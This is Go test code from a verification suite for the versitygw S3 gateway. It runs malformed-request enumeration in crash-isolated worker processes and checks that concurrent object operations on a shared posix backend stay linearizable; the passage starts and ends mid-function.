			chk := w.F.Do(gw.Root, "GET", gw.ObjPath(w.Bucket, w.MpKey), gw.Q("uploadId", w.UploadID), nil, nil)
			if !chk.OK() || !w.F.Head(gw.Root, w.Bucket, w.Key).OK() {
				w.Close()
				w = c20World()
			}
		}
	}
	os.WriteFile(progress, []byte("done"), 0o644)
}

// C20: deviation-bounded enumeration over the API grammar in crash-isolated worker processes.
func C20(r *ck.Run) {
	cases := c20Cases(r.Thorough())
	if s := os.Getenv("C20_WORKER"); s != "" {
		var shard, n, from int
		fmt.Sscanf(s, "%d/%d/%d", &shard, &n, &from)
		c20Worker(r, cases, shard, n, from, os.Getenv("C20_PROGRESS"))
		return // Finish() writes the partial (VERIF_SHARD is set by the parent)
	}
	r.Rule("the valid request of every endpoint shape with ONE field (TWO on the listing endpoints, thorough) replaced by every member of that field's class menu — numbers (empty, 0, -1, 2^31, 2^63, 2^64, 1e3, blanks, full-width digits), ids/markers (absent, 1 KiB, NUL, bad escapes, traversal), 31 XML bodies per document type, 17 JSON policies plus every field of a valid statement replaced by each of 26 degenerate JSON values (104 more), the authentication elements themselves (X-Amz-Date, the day of the credential scope, SignedHeaders, Signature, and their presigned forms incl. X-Amz-Expires) replaced after signing by 16 date-like / 13 token values, copy sources, ranges, header values (empty, huge, type-confused), bucket names, keys, signed and unsigned aws-chunked framing (sizes ffffffffffffffff / 7fffffffffffffff / -1, 1 KiB headers, missing delimiters) — with valid credentials, a wrong secret, an unknown access key and no credentials, each followed by a liveness probe (root request, account creation, request by the new account, account deletion), executed in worker processes the driver restarts when one dies; distinct = distinct case")
	r.Assume("the worker process stands for the gateway process: a panic that kills it is attributed to the in-flight case; allocation is measured as runtime.MemStats.TotalAlloc delta of the otherwise idle worker (limit 64 MiB + 4×body)")
	n := 16
	dir, cleanup := ck.Scratch("c20drv")
	defer cleanup()
	var mu sync.Mutex
	var wg sync.WaitGroup
	for shard := 0; shard < n; shard++ {
		wg.Add(1)
		go func(shard int) {
			defer wg.Done()
			from := 0
			for attempt := 0; attempt < 400; attempt++ {
				progress := filepath.Join(dir, fmt.Sprintf("prog-%d", shard))
				partial := filepath.Join(dir, fmt.Sprintf("part-%d-%d.json", shard, attempt))
				os.Remove(progress)
				cmd := exec.Command(os.Args[0], os.Args[1:]...)
				cmd.Env = append(os.Environ(), fmt.Sprintf("C20_WORKER=%d/%d/%d", shard, n, from), "C20_PROGRESS="+progress,
					fmt.Sprintf("VERIF_SHARD=%d/%d", shard, n), "VERIF_PARTIAL="+partial, "VERIF_TIER="+r.Tier)
				var stderr bytes.Buffer
				cmd.Stderr = &stderr
				cmd.Stdout = &stderr
				err := cmd.Run()
				pb, _ := os.ReadFile(progress)
				mu.Lock()
				if _, statErr := os.Stat(partial); statErr == nil {
					r.MergePartialFile(partial)
				}
				mu.Unlock()
				if err == nil && string(pb) == "done" {
					return
				}
				// the worker died: the in-flight case is the culprit
				idx, perr := strconv.Atoi(strings.TrimSpace(string(pb)))
				if perr != nil {
					ck.Fatal("C20 worker %d died before its first case: %v\n%s", shard, err, tail(stderr.String(), 2000))
				}
				c := cases[idx]
				reason := panicLine(stderr.String())
				mu.Lock()
				r.Add("evaluations", 1)
				r.Add("worker_deaths", 1)
				r.Outcome("process-died")
				r.Violation(ck.JoinSig(c.EP, c.Field, c.Class, "cred="+c.Cred, "gateway-process-died", reason), map[string]any{"endpoint": c.EP, "field": c.Field, "value": ck.Short(c.Value, 300),
					"credentials": c.Cred, "field2": c.Field2, "value2": c.Value2, "stderr_tail": tail(stderr.String(), 3000)})
				mu.Unlock()
				from = idx + 1
			}
		}(shard)
	}
	wg.Wait()
	b, _ := json.Marshal(cases[0])
	r.Sample(json.RawMessage(b))
	r.Extra("cases", len(cases))
}

func tail(s string, n int) string {
	if len(s) > n {
		return s[len(s)-n:]
	}
	return s
}

// panicLine extracts "panic: …" / "fatal error: …" plus the first frame inside versitygw.
func panicLine(stderr string) string {
	lines := strings.Split(stderr, "\n")
	msg, frame := "", ""
	for i, l := range lines {
		if msg == "" && (strings.HasPrefix(l, "panic:") || strings.HasPrefix(l, "fatal error:")) {
			msg = strings.TrimSpace(l)
			if strings.Contains(msg, "[recovered]") {
				msg = strings.TrimSpace(strings.Split(msg, "[recovered]")[0])
			}
			_ = i
		}
		if msg != "" && frame == "" && strings.HasPrefix(l, "github.com/versity/versitygw/") {
			frame = strings.TrimPrefix(strings.SplitN(l, "(", 2)[0], "github.com/versity/versitygw/")
		}
	}
	if msg == "" {
		return "no panic message"
	}
	// drop addresses / numbers that vary
	msg = ck.Short(msg, 120)
	return msg + " @ " + frame
}

// c20World: the standard fixture plus more in-progress uploads, versions and a delete marker,
// so that marker / max-* combinations have something to page through.
func c20World() *World {
	// everything optional switched on: access logs, debug logging, event notifications to a loopback sink
	sink := newEvSink()
	sender, err := s3event.InitWebhookEventSender(sink.URL(), nil)
	if err != nil {
		ck.Fatal("event sender: %v", err)
	}
	w := NewWorld("c20", gw.Opts{Versioning: true, AccessLog: true, Debug: true, Events: sender})
	for _, k := range []string{w.MpKey, "mpk2", "dir/mpk3", "a-up", "zz-up", "mpk2"} {
		Must(w.F.Do(gw.Root, "POST", gw.ObjPath(w.Bucket, k), "uploads", nil, nil), "extra upload")
	}
	Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "versioning", nil, []byte("<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>")), "enable versioning")
	Must(w.F.Put(gw.Root, w.Bucket, w.Key2, []byte("second version")), "second version")
	Must(w.F.Put(gw.Root, w.Bucket, "todelete", []byte("x")), "put todelete")
	Must(w.F.Delete(gw.Root, w.Bucket, "todelete"), "delete marker")
	Must(w.F.Put(gw.Root, w.Bucket, w0DirObj, nil), "directory object")
	return w
}
