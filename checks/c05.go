package checks

import (
	"bytes"
	"context"
	"crypto/md5"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"

	"github.com/anishathalye/porcupine"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3response"

	"verif/ck"
	"verif/sched"
)

func init() { Registry["C05"] = C05 }

// ---- backend-seam store --------------------------------------------------

type pxCfg struct {
	NoTmp      bool
	Versioning bool
	Sidecar    bool
}

func (c pxCfg) String() string {
	s := "otmpfile"
	if c.NoTmp {
		s = "namedtmp"
	}
	if c.Versioning {
		s += "+versioning"
	}
	if c.Sidecar {
		s += "+sidecar"
	}
	return s
}

// storeClass: metadata store and versioning are part of a C05 signature (the sidecar store and the versioning
// bookkeeping have their own, separately listed, non-atomic windows).
func storeClass(c pxCfg) string {
	s := "xattr"
	if c.Sidecar {
		s = "sidecar"
	}
	if c.Versioning {
		s += "+versioning"
	}
	return s
}

// pxStore is a real posix backend (two instances A,B on the same root stand
// for two gateway processes sharing the storage).
type pxStore struct {
	Dir    string
	Root   string
	Ver    string
	Sc     string
	Cfg    pxCfg
	A, B   *posix.Posix
	Acct   auth.Account
	bucket string
}

func newPxStore(tag string, cfg pxCfg) *pxStore {
	dir, _ := ck.Scratch(tag)
	return newPxStoreAt(dir, cfg)
}

// newPxStoreAt opens (or creates) the storage below dir: a second process attaches to the same storage this way.
func newPxStoreAt(dir string, cfg pxCfg) *pxStore {
	st := &pxStore{Dir: dir, Root: filepath.Join(dir, "root"), Cfg: cfg, Acct: auth.Account{Access: "acc1", Role: auth.RoleAdmin}}
	os.MkdirAll(st.Root, 0o755)
	po := posix.PosixOpts{NewDirPerm: 0o755, ForceNoTmpFile: cfg.NoTmp}
	if cfg.Versioning {
		st.Ver = filepath.Join(dir, "ver")
		os.MkdirAll(st.Ver, 0o755)
		po.VersioningDir = st.Ver
	}
	var ms meta.MetadataStorer = meta.XattrMeta{}
	if cfg.Sidecar {
		st.Sc = filepath.Join(dir, "sc")
		os.MkdirAll(st.Sc, 0o755)
		sc, err := meta.NewSideCar(st.Sc)
		if err != nil {
			ck.Fatal("sidecar: %v", err)
		}
		ms = sc
		po.SideCarDir = st.Sc
	}
	var err error
	old := os.Stdout
	null, _ := os.OpenFile(os.DevNull, os.O_WRONLY, 0)
	os.Stdout = null
	st.A, err = posix.New(st.Root, ms, po)
	if err == nil {
		st.B, err = posix.New(st.Root, ms, po)
	}
	os.Stdout = old
	null.Close()
	if err != nil {
		ck.Fatal("posix.New: %v", err)
	}
	return st
}

func (st *pxStore) Close() {
	st.A.Shutdown()
	st.B.Shutdown()
	os.RemoveAll(st.Dir)
}

func (st *pxStore) ctx() context.Context {
	return context.WithValue(context.Background(), "account", st.Acct)
}

// wipe removes every bucket (and version / sidecar data) — scheduler inactive.
func (st *pxStore) wipe() {
	for _, d := range []string{st.Root, st.Ver, st.Sc} {
		if d == "" {
			continue
		}
		ents, _ := os.ReadDir(d)
		for _, e := range ents {
			os.RemoveAll(filepath.Join(d, e.Name()))
		}
	}
}

func sp(s string) *string { return &s }
func i64(n int64) *int64  { return &n }
func i32(n int32) *int32  { return &n }

func (st *pxStore) mkBucket(b string) {
	acl := []byte(`{"Owner":"acc1","Grantees":[]}`)
	if err := st.A.CreateBucket(st.ctx(), &s3.CreateBucketInput{Bucket: &b}, acl); err != nil {
		ck.Fatal("create bucket: %v", err)
	}
	if st.Cfg.Versioning {
		if err := st.A.PutBucketVersioning(st.ctx(), b, types.BucketVersioningStatusEnabled); err != nil {
			ck.Fatal("enable versioning: %v", err)
		}
	}
}

// write value i of the C05 alphabet: distinct body, size, ETag, metadata, content type.
type wval struct {
	ID   int
	Body []byte
	ETag string
	Meta string
	CT   string
}

func mkval(i int) wval {
	// lengths are neither ascending nor descending in i (53, 40, 66, 79, ...): a replacing upload can be
	// shorter or longer than what it replaces
	n := 40 + i*13
	if i == 0 {
		n = 53
	} else if i == 1 {
		n = 40
	}
	b := Pattern(n, byte(i))
	return wval{ID: i, Body: b, ETag: etagOf(b), Meta: fmt.Sprintf("m%d", i), CT: fmt.Sprintf("text/w%d", i)}
}

func (st *pxStore) put(p *posix.Posix, b, k string, v wval) error {
	_, err := p.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: &b, Key: &k, Body: bytes.NewReader(v.Body),
		ContentLength: i64(int64(len(v.Body))), ContentType: &v.CT, Metadata: map[string]string{"w": v.Meta}})
	return err
}

// obs is what a read observed.
type obs struct {
	Absent bool
	Err    string
	Body   int // write id the body equals (-1: none)
	ETag   int
	Meta   int
	CT     int
	Size   int // write id whose length matches ContentLength
	Raw    string
}

func identify(vals []wval, body []byte, haveBody bool, etag, metav, ct string, clen int64) obs {
	o := obs{Body: -1, ETag: -1, Meta: -1, CT: -1, Size: -1}
	for _, v := range vals {
		if haveBody && bytes.Equal(v.Body, body) {
			o.Body = v.ID
		}
		if v.ETag == etag || mpETag(v.Body) == etag {
			o.ETag = v.ID
		}
		if v.Meta == metav {
			o.Meta = v.ID
		}
		if v.CT == ct {
			o.CT = v.ID
		}
		if int64(len(v.Body)) == clen {
			o.Size = v.ID
		}
	}
	if !haveBody {
		o.Body = o.Size
	}
	o.Raw = fmt.Sprintf("len=%d etag=%s meta=%s ct=%s clen=%d", len(body), etag, metav, ct, clen)
	return o
}

// mpETag is the S3 multipart ETag of a single-part upload of body.
func mpETag(body []byte) string {
	h := md5.Sum(body)
	hh := md5.Sum(h[:])
	return `"` + hex.EncodeToString(hh[:]) + `-1"`
}

func isNoSuchKey(err error) bool {
	return err != nil && (strings.Contains(err.Error(), "NoSuchKey") || strings.Contains(err.Error(), "NoSuchVersion"))
}

func (st *pxStore) get(p *posix.Posix, b, k string, vals []wval) obs {
	out, err := p.GetObject(st.ctx(), &s3.GetObjectInput{Bucket: &b, Key: &k, Range: sp("")})
	if err != nil {
		if isNoSuchKey(err) {
			return obs{Absent: true}
		}
		return obs{Err: err.Error()}
	}
	body, rerr := io.ReadAll(out.Body)
	out.Body.Close()
	if rerr != nil {
		return obs{Err: "read body: " + rerr.Error()}
	}
	return identify(vals, body, true, getS(out.ETag), out.Metadata["w"], getS(out.ContentType), getI(out.ContentLength))
}

func (st *pxStore) head(p *posix.Posix, b, k string, vals []wval) obs {
	out, err := p.HeadObject(st.ctx(), &s3.HeadObjectInput{Bucket: &b, Key: &k})
	if err != nil {
		if isNoSuchKey(err) {
			return obs{Absent: true}
		}
		return obs{Err: err.Error()}
	}
	return identify(vals, nil, false, getS(out.ETag), out.Metadata["w"], getS(out.ContentType), getI(out.ContentLength))
}

func (st *pxStore) attrs(p *posix.Posix, b, k string, vals []wval) obs {
	out, err := p.GetObjectAttributes(st.ctx(), &s3.GetObjectAttributesInput{Bucket: &b, Key: &k,
		ObjectAttributes: []types.ObjectAttributes{types.ObjectAttributesEtag, types.ObjectAttributesObjectSize}})
	if err != nil {
		if isNoSuchKey(err) {
			return obs{Absent: true}
		}
		return obs{Err: err.Error()}
	}
	o := obs{Body: -1, ETag: -1, Meta: -2, CT: -2, Size: -1}
	for _, v := range vals {
		if strings.Trim(v.ETag, `"`) == strings.Trim(getS(out.ETag), `"`) || strings.Trim(mpETag(v.Body), `"`) == strings.Trim(getS(out.ETag), `"`) {
			o.ETag = v.ID
		}
		if out.ObjectSize != nil && int64(len(v.Body)) == *out.ObjectSize {
			o.Size = v.ID
		}
	}
	o.Body = o.Size
	o.Raw = fmt.Sprintf("etag=%s size=%d", getS(out.ETag), getI(out.ObjectSize))
	return o
}

func getS(s *string) string {
	if s == nil {
		return ""
	}
	return *s
}

func getI(i *int64) int64 {
	if i == nil {
		return -1
	}
	return *i
}

// ---- scenarios -----------------------------------------------------------

type c05Op struct {
	Kind string // put del get head attrs copy complete
	Val  int    // value id written (put/copy/complete)
	Inst int    // 0: instance A, 1: instance B
}

type c05Scn struct {
	Name    string
	Key     string
	Seeded  bool // key holds value 0 at the start
	Threads [][]c05Op
}

type c05Rec struct {
	Thread    int
	Op        c05Op
	Call, Ret int64
	CallStep  int
	RetStep   int
	Err       string
	Obs       obs
}

// register-with-absence model for porcupine: state = value id, 0.. ; -1 = absent
type regIn struct {
	Kind string
	Val  int
}
type regOut struct {
	Absent bool
	Val    int
}

var regModel = porcupine.Model{
	Init: func() interface{} { return -1 },
	Step: func(state, input, output interface{}) (bool, interface{}) {
		s := state.(int)
		in := input.(regIn)
		out := output.(regOut)
		switch in.Kind {
		case "put":
			return true, in.Val
		case "del":
			return true, -1
		default: // read
			if out.Absent {
				return s == -1, s
			}
			return s == out.Val, s
		}
	},
	Equal: func(a, b interface{}) bool { return a.(int) == b.(int) },
}

func c05Scenarios(thorough bool) []c05Scn {
	w := func(v int) c05Op { return c05Op{Kind: "put", Val: v} }
	wB := func(v int) c05Op { return c05Op{Kind: "put", Val: v, Inst: 1} }
	g := c05Op{Kind: "get", Inst: 1}
	gA := c05Op{Kind: "get"}
	d := c05Op{Kind: "del", Inst: 1}
	scns := []c05Scn{
		{Name: "W|R", Key: "k", Seeded: true, Threads: [][]c05Op{{w(1)}, {g}}},
		{Name: "W|RR", Key: "k", Seeded: true, Threads: [][]c05Op{{w(1)}, {g, g}}},
		{Name: "W|R nested", Key: "d/k", Seeded: true, Threads: [][]c05Op{{w(1)}, {g}}},
		{Name: "W|R new-key", Key: "k", Seeded: false, Threads: [][]c05Op{{w(1)}, {g}}},
		{Name: "W(empty)|RR", Key: "k", Seeded: true, Threads: [][]c05Op{{w(3)}, {g, g}}},
		{Name: "W|HEAD", Key: "k", Seeded: true, Threads: [][]c05Op{{w(1)}, {{Kind: "head", Inst: 1}}}},
		{Name: "W|ATTRS", Key: "k", Seeded: true, Threads: [][]c05Op{{w(1)}, {{Kind: "attrs", Inst: 1}}}},
		{Name: "D|R", Key: "k", Seeded: true, Threads: [][]c05Op{{d}, {gA}}},
		{Name: "D|R nested", Key: "d/k", Seeded: true, Threads: [][]c05Op{{d}, {gA}}},
		{Name: "COPY|R", Key: "k", Seeded: true, Threads: [][]c05Op{{{Kind: "copy", Val: 1}}, {g}}},
		{Name: "COMPLETE|R", Key: "k", Seeded: true, Threads: [][]c05Op{{{Kind: "complete", Val: 1}}, {g}}},
		{Name: "W|W|R", Key: "k", Seeded: true, Threads: [][]c05Op{{w(1)}, {wB(2)}, {gA}}},
		{Name: "W|D|R", Key: "k", Seeded: true, Threads: [][]c05Op{{w(1)}, {d}, {gA}}},
		{Name: "W|D|R new-key", Key: "k", Seeded: false, Threads: [][]c05Op{{w(1)}, {d}, {gA}}},
		{Name: "W|W then R", Key: "k", Seeded: true, Threads: [][]c05Op{{w(1), gA}, {wB(2)}}},
	}
	if thorough {
		scns = append(scns,
			c05Scn{Name: "W|D|R nested", Key: "d/k", Seeded: true, Threads: [][]c05Op{{w(1)}, {d}, {gA}}},
			c05Scn{Name: "W|W|RR", Key: "k", Seeded: true, Threads: [][]c05Op{{w(1)}, {wB(2)}, {gA, gA}}},
			c05Scn{Name: "COPY|W|R", Key: "k", Seeded: true, Threads: [][]c05Op{{{Kind: "copy", Val: 1}}, {wB(2)}, {gA}}},
			c05Scn{Name: "COMPLETE|D|R", Key: "k", Seeded: true, Threads: [][]c05Op{{{Kind: "complete", Val: 1}}, {d}, {gA}}},
		)
	}
	return scns
}

const c05Bucket = "bkt"

// phase of a mutating thread at step index tau, from the labels of its steps executed before tau.
func c05Phase(x *sched.Exec, thread int, tau int, objPath string, nthreadsteps []int) string {
	started, last := false, "pre"
	count := 0
	for i := 0; i < tau && i < len(x.Points); i++ {
		p := x.Points[i]
		if p.Thread != thread {
			continue
		}
		started = true
		count++
		l := p.Label
		switch {
		case strings.HasPrefix(l, "remove "+objPath) && (len(l) == len("remove "+objPath)):
			last = "unlinked"
		case l == "linkat -> "+filepath.Base(objPath), strings.HasPrefix(l, "rename ") && strings.HasSuffix(l, "-> "+objPath):
			last = "published"
		case strings.HasPrefix(l, "setxattr "+objPath+" "), strings.HasPrefix(l, "removexattr "+objPath+" "):
			if last == "published" || last == "published+attrs" {
				last = "published+attrs"
			} else if last == "pre" || last == "attrs-in-place" {
				last = "attrs-in-place"
			}
		}
	}
	if !started {
		return "idle"
	}
	if count >= nthreadsteps[thread] {
		return "done"
	}
	return last
}

func c05RunScenario(r *ck.Run, st *pxStore, scn c05Scn, bound int) {
	// value 3 is the empty object (an upload without data takes short cuts of its own)
	vals := []wval{mkval(0), mkval(1), mkval(2), {ID: 3, Body: []byte{}, ETag: etagOf(nil), Meta: "m3", CT: "text/w3"}}
	objPath := filepath.Join(c05Bucket, scn.Key)
	var recs []*c05Rec
	var evctr int64
	var partETag string
	inst := func(i int) *posix.Posix {
		if i == 1 {
			return st.B
		}
		return st.A
	}
	setup := func() []func() {
		st.wipe()
		st.mkBucket(c05Bucket)
		if scn.Seeded {
			if err := st.put(st.A, c05Bucket, scn.Key, vals[0]); err != nil {
				ck.Fatal("seed: %v", err)
			}
		}
		recs = nil
		evctr = 0
		var uploadID string
		partETag = ""
		for _, th := range scn.Threads {
			for _, op := range th {
				switch op.Kind {
				case "copy":
					if err := st.put(st.A, c05Bucket, "src", vals[op.Val]); err != nil {
						ck.Fatal("seed copy source: %v", err)
					}
				case "complete":
					res, err := st.A.CreateMultipartUpload(st.ctx(), s3response.CreateMultipartUploadInput{Bucket: sp(c05Bucket), Key: &scn.Key,
						ContentType: &vals[op.Val].CT, Metadata: map[string]string{"w": vals[op.Val].Meta}})
					if err != nil {
						ck.Fatal("create mpu: %v", err)
					}
					uploadID = res.UploadId
					var upo *s3.UploadPartOutput
					upo, err = st.A.UploadPart(st.ctx(), &s3.UploadPartInput{Bucket: sp(c05Bucket), Key: &scn.Key, UploadId: &uploadID, PartNumber: i32(1),
						Body: bytes.NewReader(vals[op.Val].Body), ContentLength: i64(int64(len(vals[op.Val].Body)))})
					if err != nil {
						ck.Fatal("upload part: %v", err)
					}
					partETag = getS(upo.ETag)
				}
			}
		}
		var bodies []func()
		for ti, th := range scn.Threads {
			ti, th := ti, th
			bodies = append(bodies, func() {
				for _, op := range th {
					rec := &c05Rec{Thread: ti, Op: op, CallStep: sched.Clock()}
					evctr++
					rec.Call = evctr
					p := inst(op.Inst)
					switch op.Kind {
					case "put":
						if err := st.put(p, c05Bucket, scn.Key, vals[op.Val]); err != nil {
							rec.Err = err.Error()
						}
					case "del":
						_, err := p.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c05Bucket), Key: &scn.Key})
						if err != nil && !isNoSuchKey(err) {
							rec.Err = err.Error()
						}
					case "copy":
						_, err := p.CopyObject(st.ctx(), s3response.CopyObjectInput{Bucket: sp(c05Bucket), Key: &scn.Key, CopySource: sp(c05Bucket + "/src"), ExpectedBucketOwner: sp("acc1"), MetadataDirective: types.MetadataDirectiveCopy})
						if err != nil {
							rec.Err = err.Error()
						}
					case "complete":
						pn := int32(1)
						etag := partETag
						_, err := p.CompleteMultipartUpload(st.ctx(), &s3.CompleteMultipartUploadInput{Bucket: sp(c05Bucket), Key: &scn.Key, UploadId: &uploadID,
							MultipartUpload: &types.CompletedMultipartUpload{Parts: []types.CompletedPart{{PartNumber: &pn, ETag: &etag}}}})
						if err != nil {
							rec.Err = err.Error()
						}
					case "get":
						rec.Obs = st.get(p, c05Bucket, scn.Key, vals)
					case "head":
						rec.Obs = st.head(p, c05Bucket, scn.Key, vals)
					case "attrs":
						rec.Obs = st.attrs(p, c05Bucket, scn.Key, vals)
					}
					evctr++
					rec.Ret = evctr
					rec.RetStep = sched.Clock()
					recs = append(recs, rec)
				}
			})
		}
		return bodies
	}
	isRead := func(k string) bool { return k == "get" || k == "head" || k == "attrs" }
	check := func(x *sched.Exec) {
		r.Add("evaluations", 1)
		r.Add("transitions", int64(len(x.Points)))
		r.Distinct(fmt.Sprintf("%s|%s|%v", st.Cfg, scn.Name, x.Choices))
		if st.Cfg.Versioning && !x.Deadlock && !x.Horizon && len(x.Panics) == 0 {
			// quiescent audit of the version history: every version that is listed is one whole upload
			// (its own body, length, ETag, metadata), whatever the interleaving was
			mk := int32(1000)
			lv, err := st.B.ListObjectVersions(st.ctx(), &s3.ListObjectVersionsInput{Bucket: sp(c05Bucket), Prefix: sp(scn.Key), MaxKeys: &mk, KeyMarker: sp(""), VersionIdMarker: sp(""), Delimiter: sp("")})
			if err == nil {
				for _, v := range lv.Versions {
					if getS(v.Key) != scn.Key {
						continue
					}
					vid := getS(v.VersionId)
					out, gerr := st.B.GetObject(st.ctx(), &s3.GetObjectInput{Bucket: sp(c05Bucket), Key: sp(scn.Key), VersionId: &vid, Range: sp("")})
					if gerr != nil {
						continue
					}
					body, _ := io.ReadAll(out.Body)
					out.Body.Close()
					o := identify(vals, body, true, getS(out.ETag), out.Metadata["w"], getS(out.ContentType), getI(out.ContentLength))
					if o.Body < 0 || o.ETag != o.Body || o.Meta != o.Body || o.CT != o.Body {
						var trace []string
						for i, p := range x.Points {
							trace = append(trace, fmt.Sprintf("%d T%d %s", i, p.Thread, sched.Canon(strings.ReplaceAll(p.Label, st.Dir, ""))))
						}
						r.Violation(ck.JoinSig(storeClass(st.Cfg), "version-is-not-one-whole-upload", scn.Name), map[string]any{"config": st.Cfg.String(), "scenario": scn.Name, "version": vid, "observed": o.Raw, "choices": x.Choices, "schedule": trace})
					}
				}
			}
		}
		nsteps := make([]int, len(scn.Threads)+4)
		for _, p := range x.Points {
			nsteps[p.Thread]++
		}
		sigCtx := func(rec *c05Rec, pick func(label string) bool) string {
			// For every other mutating thread: how the phases of that thread
			// (before / unlinked / published / in-place attribute update), seen at the
			// steps of this operation that touch the object path, explain the anomaly:
			// U = some step ran while the object path was unlinked but not yet republished,
			// P = the steps straddle the publication, X = they overlap in-place attribute
			// updates, - = none of these.
			var parts []string
			for ti, th := range scn.Threads {
				if ti == rec.Thread {
					continue
				}
				mut := ""
				for _, op := range th {
					if !isRead(op.Kind) {
						mut = op.Kind
					}
				}
				if mut == "" {
					continue
				}
				var u, b, a, xx bool
				for i, p := range x.Points {
					if p.Thread != rec.Thread || i < rec.CallStep || i > rec.RetStep || !pick(p.Label) {
						continue
					}
					switch c05Phase(x, ti, i, objPath, nsteps) {
					case "unlinked":
						u = true
					case "idle", "pre":
						b = true
					case "published", "done":
						a = true
					default:
						xx = true
					}
				}
				c := "-"
				switch {
				case u:
					c = "U"
				case b && a:
					c = "P"
				case xx:
					c = "X"
				}
				parts = append(parts, mut+":"+c)
			}
			sort.Strings(parts)
			return strings.Join(parts, ",")
		}
		onObj := func(l string) bool {
			return strings.HasSuffix(l, " "+objPath) || strings.Contains(l, " "+objPath+" ")
		}
		detail := func(rec *c05Rec, what string) map[string]any {
			var trace []string
			for i, p := range x.Points {
				trace = append(trace, fmt.Sprintf("%d T%d %s", i, p.Thread, sched.Canon(p.Label)))
			}
			var hist []string
			for _, rc := range recs {
				hist = append(hist, fmt.Sprintf("T%d %s(%d) call=%d ret=%d err=%q obs=%+v", rc.Thread, rc.Op.Kind, rc.Op.Val, rc.Call, rc.Ret, rc.Err, rc.Obs))
			}
			return map[string]any{"scenario": scn.Name, "config": st.Cfg.String(), "key": scn.Key, "what": what,
				"choices": x.Choices, "schedule": trace, "history": hist, "preemption_bound": bound}
		}
		if x.Deadlock || x.Horizon || len(x.Panics) > 0 {
			r.Violation(ck.JoinSig("C05", scn.Name, fmt.Sprintf("deadlock=%v horizon=%v panics=%d", x.Deadlock, x.Horizon, len(x.Panics))), detail(&c05Rec{}, fmt.Sprint(x.Panics)))
			return
		}
		var ops []porcupine.Operation
		outcome := ""
		bad := false
		for _, rec := range recs {
			if rec.Err != "" {
				r.Violation(ck.JoinSig(storeClass(st.Cfg), "op-failed", rec.Op.Kind, errClass(rec.Err), sigCtx(rec, onObj)), detail(rec, rec.Err))
				outcome += rec.Op.Kind + ":ERR "
				bad = true
				continue
			}
			if !isRead(rec.Op.Kind) {
				kind := "put"
				if rec.Op.Kind == "del" {
					kind = "del"
				}
				ops = append(ops, porcupine.Operation{ClientId: rec.Thread, Input: regIn{kind, rec.Op.Val}, Call: rec.Call, Output: regOut{}, Return: rec.Ret})
				continue
			}
			o := rec.Obs
			switch {
			case o.Err != "":
				r.Violation(ck.JoinSig(storeClass(st.Cfg), "read-failed", rec.Op.Kind, errClass(o.Err), sigCtx(rec, onObj)), detail(rec, o.Err))
				outcome += rec.Op.Kind + ":ERR "
				bad = true
				continue
			case o.Absent:
				outcome += rec.Op.Kind + ":absent "
				ops = append(ops, porcupine.Operation{ClientId: rec.Thread, Input: regIn{Kind: "read"}, Call: rec.Call, Output: regOut{Absent: true}, Return: rec.Ret})
			default:
				outcome += fmt.Sprintf("%s:b%d/e%d/m%d ", rec.Op.Kind, o.Body, o.ETag, o.Meta)
				mixed := o.Body < 0 || o.ETag != o.Body || o.Size != o.Body || (o.Meta != -2 && (o.Meta != o.Body || o.CT != o.Body))
				if mixed {
					r.Violation(ck.JoinSig(storeClass(st.Cfg), "mixed-read", rec.Op.Kind, sigCtx(rec, onObj)),
						detail(rec, fmt.Sprintf("body=%s etag=%s meta=%s ct=%s size=%s %s", vname(o.Body), vname(o.ETag), vname(o.Meta), vname(o.CT), vname(o.Size), o.Raw)))
					bad = true
					continue
				}
				ops = append(ops, porcupine.Operation{ClientId: rec.Thread, Input: regIn{Kind: "read"}, Call: rec.Call, Output: regOut{Val: o.Body}, Return: rec.Ret})
			}
		}
		r.Outcome(scn.Name + " " + outcome)
		if bad {
			return
		}
		// history prefix: the seed write
		all := ops
		if scn.Seeded {
			all = append([]porcupine.Operation{{ClientId: 9, Input: regIn{"put", 0}, Call: -2, Output: regOut{}, Return: -1}}, ops...)
		}
		if !porcupine.CheckOperations(regModel, all) {
			// attribute the failure: a read is a culprit when the history of all
			// writes plus that read alone already has no linearization
			var writes []porcupine.Operation
			for _, o := range all {
				if o.Input.(regIn).Kind != "read" {
					writes = append(writes, o)
				}
			}
			culprits := 0
			flag := func(rec *c05Rec, kind string) {
				what := "stale-or-impossible-value"
				if rec.Obs.Absent {
					what = "absent"
				}
				r.Violation(ck.JoinSig(storeClass(st.Cfg), kind, rec.Op.Kind+"->"+what, sigCtx(rec, onObj)), detail(rec, "history has no linearization"))
			}
			for _, rec := range recs {
				if !isRead(rec.Op.Kind) {
					continue
				}
				one := append(append([]porcupine.Operation{}, writes...), porcupine.Operation{ClientId: rec.Thread, Input: regIn{Kind: "read"}, Call: rec.Call,
					Output: regOut{Absent: rec.Obs.Absent, Val: rec.Obs.Body}, Return: rec.Ret})
				if !porcupine.CheckOperations(regModel, one) {
					culprits++
					flag(rec, "not-linearizable")
				}
			}
			if culprits == 0 {
				for _, rec := range recs {
					if isRead(rec.Op.Kind) {
						flag(rec, "not-linearizable-jointly")
					}
				}
			}
		}
	}
	ex := &sched.Explorer{Bound: bound, Setup: setup, Check: check}
	if r.IsWorker() {
		ex.Mine = func(k int) bool { return r.Mine(k) }
	}
	ex.Explore()
	r.Add("schedules", ex.Execs)
	r.Add("execs "+scn.Name, ex.Execs)
	r.Add("points", ex.Points)
	// determinism gate: replay the last complete schedule twice and compare the traces
	x1 := ex.Replay(nil)
	l1 := labelsOf(x1)
	x2 := ex.Replay(nil)
	if l1 != labelsOf(x2) {
		ck.Fatal("determinism gate: the default schedule of %s produced two different traces", scn.Name)
	}
	if ex.Capped {
		r.Cap("explorer cap in scenario " + scn.Name)
	}
}

func labelsOf(x *sched.Exec) string {
	var b strings.Builder
	for _, p := range x.Points {
		fmt.Fprintf(&b, "%d:%s;", p.Thread, sched.Canon(p.Label))
	}
	return b.String()
}

func vname(i int) string {
	switch {
	case i == -2:
		return "n/a"
	case i < 0:
		return "none"
	}
	return fmt.Sprintf("w%d", i)
}

func errClass(e string) string {
